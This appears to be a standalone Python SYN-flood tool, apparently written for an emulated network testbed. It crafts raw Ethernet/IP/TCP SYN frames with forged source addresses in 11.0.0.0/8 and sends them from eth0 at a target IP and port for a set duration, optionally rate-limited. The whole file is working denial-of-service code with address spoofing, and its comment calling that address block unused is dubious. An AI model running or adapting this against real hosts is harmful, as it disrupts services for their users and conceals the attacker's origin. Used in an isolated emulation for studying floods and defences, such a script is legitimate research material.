"""Floods a service with TCP SYNs from forged addresses, from eth0; run as a program on an emulated host.

`flood.py TARGET_IP PORT --seconds N [--rate N]` sends so many per second, or as fast as it can, and prints how many.
Standard library only.
"""

from __future__ import annotations

import random
import socket
import struct
import sys
import time

_ETH_IPV4 = 0x0800
_DEVICE = "eth0"
#: sources that nobody has: 11.0.0.0/8
_FORGED = 0x0B000000
_SYN = 2


def _syn(mac: bytes, target: bytes, port: int, source: int) -> bytes:
    ethernet = mac[:5] + bytes([mac[5] ^ 1]) + mac + struct.pack("!H", _ETH_IPV4)
    head = struct.pack("!BBHHHBBHI4s", 0x45, 0, 40, 0, 0, 64, socket.IPPROTO_TCP, 0, source, target)
    words = sum(struct.unpack("!10H", head))
    words = (words & 0xFFFF) + (words >> 16)
    head = head[:10] + struct.pack("!H", ~(words + (words >> 16)) & 0xFFFF) + head[12:]
    # no server is to answer: the checksum of TCP is wrong
    return ethernet + head + struct.pack("!HHIIBBHHH", 1024 + source % 60000, port, source, 0, 0x50, _SYN, 64240, 0, 0)


def _flood(target: str, port: int, seconds: float, rate: float = 0) -> int:
    """Frames are made before they are sent: that takes longer."""
    with open(f"/sys/class/net/{_DEVICE}/address") as file:
        mac = bytes.fromhex(file.read().strip().replace(":", ""))
    frames = [_syn(mac, socket.inet_aton(target), port, _FORGED + random.getrandbits(24)) for _ in range(50_000)]
    sent = 0
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as out:
        out.bind((_DEVICE, 0))
        began = time.monotonic()
        while (elapsed := time.monotonic() - began) < seconds:
            if rate and sent >= rate * elapsed:
                time.sleep(0.001)
                continue
            out.send(frames[sent % len(frames)])
            sent += 1
    return sent


if __name__ == "__main__":
    print(_flood(sys.argv[1], int(sys.argv[2]), *(float(number) for number in sys.argv[4::2])))
